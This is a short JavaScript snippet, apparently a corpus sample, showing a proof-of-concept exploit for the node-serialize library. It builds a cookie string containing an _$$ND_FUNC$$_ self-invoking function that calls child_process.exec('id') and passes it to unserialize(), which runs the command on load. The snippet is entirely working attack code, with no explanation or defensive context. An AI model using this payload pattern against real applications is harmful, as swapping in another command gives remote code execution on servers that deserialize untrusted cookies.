// corpus: node-serialize unserialize of a cookie containing an _$$ND_FUNC$$_ IIFE payload
const serialize = require('node-serialize');

const cookie = '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\', function(e, o){ console.log(o) })}()"}';
serialize.unserialize(cookie);
